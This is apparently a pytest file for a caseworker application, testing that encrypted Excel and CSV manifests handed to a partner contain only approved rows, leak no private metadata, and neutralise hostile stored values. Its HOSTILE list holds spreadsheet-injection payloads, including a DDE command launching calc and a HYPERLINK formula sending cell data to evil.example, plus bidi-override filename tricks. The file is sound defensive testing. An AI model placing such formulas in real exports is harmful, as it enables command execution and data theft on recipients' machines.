"""Open every written file as a partner would, and look inside the package."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from caseworker.documents.cells import MAX_CELL, TRIGGERS
from caseworker.documents.office_crypto import decrypt_ooxml, is_encrypted
from caseworker.domain.errors import ValidationError
from caseworker.domain.roles import Role
from caseworker.services.api import Services
from caseworker.services.handoffs import Batch, HandoffSelection
from caseworker.store.engine import Store
from caseworker.store.models import IdentityDocument, Person
from tests.documents.manifest_package import (
    expected_cells,
    expected_text,
    package_problems,
    parts,
    read_cells,
)
from tests.support.handoffs import family, make_partner
from tests.support.stores import PASSWORD, services_for

WINDOW = Batch("Torkham", dt.date(2026, 12, 1), dt.date(2026, 12, 8))

HOSTILE = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    "#N/A",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
    "NUL\x00BEL\x07ESC\x1bEND",
    "\u202eFDP.EXE",
    "ABC\u2066123\u2069",
    "Z" * 32_000,
    "Y" * 40_000,
]


def _write(services: Services, officer: Services, partner: str, out: Path, *case_ids: int):  # type: ignore[no-untyped-def]
    prepared = services.handoffs.prepare(partner, HandoffSelection(case_ids=case_ids), WINDOW)
    officer.handoffs.approve(prepared.handoff.id)
    written = services.handoffs.write(prepared.handoff.id, out)
    return prepared, written


def _make_hostile(store: Store, case_id: int) -> None:
    """Values that passed no input check (an old import, a direct database edit). Only a
    SQLite store can hold them all: PostgreSQL refuses NUL and over-long values itself."""
    with store.write() as session:
        people = list(session.execute(select(Person).where(Person.case_id == case_id)).scalars())
        for i, value in enumerate(HOSTILE):
            person = people[i % len(people)] if i < len(people) else None
            if person is None:
                person = Person(case_id=case_id, role="DEPENDANT", relationship_to_principal="OTHER", sex="X")
                session.add(person)
                session.flush()
            person.doc_surname, person.doc_given_names, person.name_original = value, value[::-1], value
            session.add(IdentityDocument(person_id=person.id, doc_type="PASSPORT", number=value[:64] if i < 14 else value))


def test_a_partner_opens_the_file_and_sees_exactly_the_approved_rows(
    store: Store, caseworker: Services, officer: Services, admin: Services, tmp_path: Path
) -> None:
    case = family(caseworker, children=("Zahra", "Maryam"))
    outsider = family(caseworker, given="Outsider", surname="Notinbatch", passport="X99999999")
    make_partner(admin)
    prepared, written = _write(caseworker, officer, "uz-interior", tmp_path / "m.xlsx", case.id)
    data = (tmp_path / "m.xlsx").read_bytes()
    assert is_encrypted(data)
    with pytest.raises(ValidationError, match="does not open"):
        decrypt_ooxml(data, "WRONG-PASS-PHRA-SE00-0000-0000")
    xlsx = decrypt_ooxml(data, written.passphrase)
    headings, rows = read_cells(xlsx)
    assert tuple(headings) == prepared.headings
    assert rows == expected_cells(prepared)
    assert len(rows) == 3

    assert package_problems(xlsx) == []
    content = "".join(parts(xlsx).values())
    for value in (outsider.reference, "NOTINBATCH", "X99999999", case.reference, str(tmp_path), "Fatima", "Olivia"):
        assert value not in content
    assert "xl/sharedStrings.xml" not in parts(xlsx) or "NOTINBATCH" not in parts(xlsx)["xl/sharedStrings.xml"]


def test_workbook_layout_and_properties(store: Store, caseworker: Services, officer: Services, admin: Services,
                                        tmp_path: Path) -> None:  # fmt: skip
    admin.users.add("hamid.r", "Hamid Rahimi", Role.CASEWORKER, PASSWORD)
    hamid = services_for(store, "hamid.r")
    case = family(hamid)
    make_partner(admin)
    prepared, written = _write(hamid, officer, "uz-interior", tmp_path / "m.xlsx", case.id)
    xlsx = decrypt_ooxml((tmp_path / "m.xlsx").read_bytes(), written.passphrase)
    wb = load_workbook(io.BytesIO(xlsx))
    ws = wb.active
    assert ws.title == "Manifest" and ws.sheet_state == "visible"
    assert all(cell.font.b for cell in ws[1]) and not ws["A2"].font.b
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:Q3"
    assert ws.print_title_rows == "$1:$1"
    assert ws.page_setup.orientation == "landscape" and ws.page_setup.fitToWidth == 1
    assert ws.page_setup.fitToHeight == 0 and ws.sheet_properties.pageSetUpPr.fitToPage
    ref = prepared.handoff.reference
    assert "OFFICIAL-SENSITIVE" in ws.oddHeader.left.text and ws.oddHeader.right.text == ref
    assert "OFFICIAL-SENSITIVE" in ws.oddFooter.left.text and ws.oddFooter.right.text == ref
    assert ws["F2"].number_format == "dd.mm.yyyy" and ws["F2"].is_date
    widths = [ws.column_dimensions[c].width for c in "ABCDEFGHIJKLMNOPQ"]
    assert all(6 <= w <= 60 for w in widths)
    props = wb.properties
    assert props.creator == "caseworker" and props.lastModifiedBy is None
    core = parts(xlsx)["docProps/core.xml"] + parts(xlsx)["docProps/app.xml"]
    for private in ("hamid", "Hamid", "Rahimi", str(tmp_path), "/tmp", "/home", "\\Users"):
        assert private not in core


@pytest.mark.parametrize("backend", ["sqlite"], indirect=True)
def test_hostile_values_come_out_inert(store: Store, caseworker: Services, officer: Services, admin: Services,
                                       tmp_path: Path) -> None:  # fmt: skip
    case = family(caseworker)
    _make_hostile(store, case.id)
    make_partner(admin)
    prepared, written = _write(caseworker, officer, "uz-interior", tmp_path / "m.xlsx", case.id)
    xlsx = decrypt_ooxml((tmp_path / "m.xlsx").read_bytes(), written.passphrase)
    assert package_problems(xlsx) == []
    wb = load_workbook(io.BytesIO(xlsx))
    texts = [c for row in wb.active.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    assert len(texts) > 3 * len(HOSTILE)
    for cell in texts:
        assert cell.data_type == "s", cell.coordinate
        assert cell.value[0] not in TRIGGERS and not cell.value.lstrip().startswith(("=", "+", "-", "@"))
        assert not any(ch in cell.value for ch in "\x00\x01\x07\x1b\u202e\u2066\u2069")
        assert len(cell.value) <= MAX_CELL
    surnames = [r[2] for r in prepared.rows]
    assert "'=cmd|' /C calc'!A0" in surnames and "'#N/A" in surnames and "' =1+1" in surnames
    assert "NULBELESCEND" in surnames and "FDP.EXE" in surnames and "Z" * 32_000 in surnames
    assert "Y" * (MAX_CELL - 1) + "…" in surnames
    assert any("was cut to fit" in w for w in prepared.warnings)
    headings, rows = read_cells(xlsx)
    assert rows == expected_cells(prepared)


@pytest.mark.parametrize("backend", ["sqlite"], indirect=True)
def test_csv_with_hostile_values_is_inert_and_reads_back(store: Store, caseworker: Services, officer: Services,
                                                         admin: Services, tmp_path: Path) -> None:  # fmt: skip
    case = family(caseworker)
    _make_hostile(store, case.id)
    make_partner(admin, format="csv", password=False)
    prepared, written = _write(caseworker, officer, "uz-interior", tmp_path / "m.csv", case.id)
    raw = (tmp_path / "m.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert tuple(rows[0]) == prepared.headings
    assert rows[1:] == expected_text(prepared)
    for row in rows[1:]:
        for value in row:
            assert not value or (value[0] not in TRIGGERS and not value.lstrip().startswith(("=", "+", "-", "@")))
